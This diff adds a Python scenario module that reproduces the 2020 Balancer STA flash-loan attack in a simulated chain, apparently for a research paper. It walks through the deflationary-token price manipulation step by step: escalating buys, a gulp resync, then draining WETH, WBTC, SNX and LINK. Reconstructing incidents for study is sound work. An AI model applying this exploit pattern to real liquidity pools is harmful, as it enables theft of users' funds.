@@ -1,0 +1,65 @@
+"""The Balancer STA attack (Jun 2020) — KRP with a deflationary token.
+
+STA burns 1% of every transfer while the Balancer pool prices against
+its internal balance records. The attacker escalates WETH->STA buys until
+the pool's STA record is dust (each buy doubles the recorded WETH and
+halves the recorded STA, quadrupling STA's price), resyncs with ``gulp``,
+then spends slivers of STA to drain the pool's WETH, WBTC, SNX and LINK
+— the four astronomically-volatile pairs of paper Table I.
+"""
+
+from __future__ import annotations
+
+from ...chain.types import ETH
+from .base import ScenarioOutcome, ScriptedAttackContract, run_flash_loan_attack
+from .common import world_for
+
+__all__ = ["build_balancer"]
+
+_N_BUYS = 8
+
+
+def build_balancer() -> ScenarioOutcome:
+    world = world_for("ethereum")
+    weth = world.weth
+    wbtc = world.new_token("WBTC", 8)
+    snx = world.new_token("SNX")
+    link = world.new_token("LINK")
+    sta = world.deflationary_token("STA", fee_bps=100)
+
+    pool = world.balancer_pool(
+        {
+            weth: 200 * ETH,
+            wbtc: 40 * wbtc.unit,
+            snx: 20_000 * snx.unit,
+            link: 10_000 * link.unit,
+            sta: 100_000 * sta.unit,
+        }
+    )
+    # external market to convert WBTC loot back into WETH for repayment
+    wbtc_market = world.dex_pair(wbtc, weth, 2_000 * wbtc.unit, 77_000 * ETH)
+    solo = world.dydx(funding={weth: 120_000 * ETH})
+
+    def body(atk: ScriptedAttackContract) -> None:
+        # Keep raising STA's price: each buy spends the pool's current
+        # recorded WETH balance, halving the recorded STA (price x4/round).
+        for _ in range(_N_BUYS):
+            weth_in = pool.record_balance(weth.address)
+            atk.balancer_swap(pool.address, weth.address, weth_in, sta.address)
+        # Resync records with actual (burned) balances — the real attack's
+        # gulp() step; with the records already drained this is a nudge.
+        atk.call(pool.address, "gulp", sta.address)
+        # Drain the other assets with slivers of now-astronomically-priced
+        # STA: the big sells recover nearly all WETH plus the WBTC pot.
+        unit = sta.unit
+        atk.balancer_swap(pool.address, sta.address, 50_000 * unit, weth.address)
+        atk.balancer_swap(pool.address, sta.address, 30_000 * unit, wbtc.address)
+        atk.balancer_swap(pool.address, sta.address, 10_000 * unit, snx.address)
+        atk.balancer_swap(pool.address, sta.address, 7_000 * unit, link.address)
+        # Convert WBTC loot to WETH so the flash loan can be repaid.
+        atk.swap_pool(wbtc_market.address, wbtc.address, atk.balance(wbtc.address))
+
+    borrow = 200 * ETH * (2**_N_BUYS)  # covers the escalating buy series
+    return run_flash_loan_attack(
+        world, body, "dydx", solo.address, weth.address, borrow, name="balancer"
+    )
